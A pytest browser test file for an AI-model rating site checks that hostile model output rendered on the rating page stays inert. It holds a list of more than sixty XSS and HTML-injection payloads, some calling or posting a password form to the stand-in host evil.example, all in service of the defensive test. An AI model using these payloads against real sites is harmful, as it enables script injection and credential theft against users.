"""Model text is hostile: a corpus of payloads rendered on the rating page in Chromium, before
and after the vote, and none of them runs, opens a dialog or reaches another host."""

from __future__ import annotations

import pytest

from arena.models import Assignment
from tests import factories
from tests.voting.browser import log_in, watch
from tests.voting.conftest import PASSWORD

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

P = "window.__pwned=1"
EVIL = "http://evil.example"
HOSTILE = [
    f"<script>{P}</script>",
    f'<script src="{EVIL}/x.js"></script>',
    f'<img src=x onerror="{P}">',
    f'<img src="{EVIL}/pixel.png">',
    f"![pixel]({EVIL}/pixel.png)",
    f"![x](javascript:{P})",
    f"[click](javascript:{P})",
    f"[click](JaVaScRiPt:{P})",
    f"[click](&#106;avascript:{P})",
    f"[click](java&#x09;script:{P})",
    f"[click](java\u200bscript:{P})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f'<a href="javascript:{P}">x</a>',
    '<a href="vbscript:msgbox(1)">vb</a>',
    f'<a href="\x01javascript:{P}">ctrl</a>',
    f"[ref link][r]\n\n[r]: javascript:{P}",
    f"[![img]({EVIL}/i.png)](javascript:{P})",
    f'<svg onload="{P}"></svg>',
    f"<svg><script>{P}</script></svg>",
    f'<svg><animate onbegin="{P}" attributeName="x" dur="1s"></animate></svg>',
    f'<svg><a xlink:href="javascript:{P}"><text x="0" y="10">svg link</text></a></svg>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{P}">',
    f'<iframe src="javascript:{P}"></iframe>',
    '<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>',
    f'<iframe src="{EVIL}/"></iframe>',
    f'<form action="{EVIL}/"><input name="password"><button>go</button></form>',
    f'<meta http-equiv="refresh" content="0;url={EVIL}/">',
    f"<style>body{{background:url({EVIL}/bg.png)}}</style>",
    f'<div style="background:url({EVIL}/bg.png)">styled</div>',
    f'<link rel="stylesheet" href="{EVIL}/s.css">',
    f'<object data="{EVIL}/x.swf"></object>',
    '<object data="data:text/html,<script>parent.__pwned=1</script>"></object>',
    f'<embed src="{EVIL}/x.swf">',
    f'<body onload="{P}">',
    f'<details open ontoggle="{P}"><summary>d</summary></details>',
    f'<input autofocus onfocus="{P}">',
    f'<video><source onerror="{P}"></video>',
    f'<audio src=x onerror="{P}"></audio>',
    f'<base href="{EVIL}/">',
    f'<img srcset="{EVIL}/a.png 1x">',
    f'<picture><source srcset="{EVIL}/a.png"><img src="{EVIL}/b.png"></picture>',
    f'<table background="{EVIL}/t.png"><tr><td>t</td></tr></table>',
    f'<div style="width: expression({P})">ie</div>',
    f'<xss id=x tabindex=1 autofocus onfocusin="{P}">focus</xss>',
    f'<marquee onstart="{P}">m</marquee>',
    f'"><script>{P}</script>',
    f"'\"><img src=x onerror={P}>",
    f"<scr<script>ipt>{P}</scr</script>ipt>",
    f'<noscript><p title="</noscript><img src=x onerror={P}>"></noscript>',
    f"<template><img src=x onerror={P}></template>",
    f'<div hx-get="{EVIL}/" hx-trigger="load">htmx get</div>',
    f'<div hx-on:htmx:load="{P}" hx-get="/rate/" hx-trigger="load">hx-on</div>',
    '<div data-hx-post="/accounts/logout/" data-hx-trigger="load">data-hx</div>',
    f'<a href="{EVIL}/" hx-boost="true">boosted</a>',
    f"```html\n<script>{P}</script>\n```",
    f"`<img src=x onerror={P}>`",
    "{{ csrf_token }} {% debug %}",
    "I\u202e gnp.exe \u202c am harmless",
    f'<a href="#" onclick="{P}" id="autoclick">x</a>',
    f'<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" onerror="{P}">',
    f'<isindex action="javascript:{P}" type="image">',
    f'<svg><foreignObject><iframe src="javascript:{P}"></iframe></foreignObject></svg>',
]


def chunks(items: list[str], size: int) -> list[list[str]]:
    return [items[i : i + size] for i in range(0, len(items), size)]


def test_the_corpus_is_big_enough():
    assert len(HOSTILE) >= 50


def check_page_is_inert(page) -> None:  # type: ignore[no-untyped-def]
    page.wait_for_timeout(300)  # let any onload/onerror/refresh fire
    assert page.evaluate("window.__pwned") is None
    found = page.evaluate("""() => {
        const panel = document.getElementById('rate-panel');
        const bad = [];
        for (const el of panel.querySelectorAll('*')) {
            for (const attr of el.attributes) {
                if (/^on/i.test(attr.name) || /^(data-)?hx-/i.test(attr.name) && !el.closest('#vote-form, #skip-form, #reveal')) bad.push(el.tagName + ' ' + attr.name);
                if (/^\\s*(javascript|data|vbscript):/i.test(attr.value)) bad.push(el.tagName + ' ' + attr.name + '=' + attr.value);
            }
        }
        for (const el of panel.querySelectorAll('.md script, .md iframe, .md form, .md svg, .md style, .md img, .md object, .md embed, .md meta, .md base, .md link, .md video, .md audio')) bad.push(el.tagName);
        return {bad, scripts: document.scripts.length};
    }""")
    assert found["bad"] == []
    assert found["scripts"] == 2  # htmx and rate.js, nothing else


@pytest.mark.parametrize("batch", range(len(chunks(HOSTILE, 8))))
def test_hostile_answers_never_execute(page, live_server, rater, batch):
    payloads = chunks(HOSTILE, 8)[batch]
    half = (len(payloads) + 1) // 2
    left = "\n\n".join(payloads[:half])
    right = "\n\n".join(payloads[half:]) or "plain"
    p = factories.blind_prompt("hostile", turns=(f"Answer this. {payloads[0]}",))
    factories.blind_comparison(
        p, "m-hostile-1", "m-hostile-2", texts={"m-hostile-1": (left,), "m-hostile-2": (right,)}
    )
    seen = watch(page)
    page.on(
        "framenavigated",
        lambda frame: seen.foreign_requests.append(frame.url) if "evil" in frame.url else None,
    )
    log_in(page, live_server, "rita", PASSWORD)
    assert Assignment.objects.filter(rater=rater).exists()
    check_page_is_inert(page)

    page.keyboard.press("3")
    page.keyboard.press("Enter")
    page.wait_for_selector("#reveal")
    check_page_is_inert(page)
    assert seen.dialogs == []
    assert seen.foreign_requests == []
    assert page.url.startswith(live_server.url)
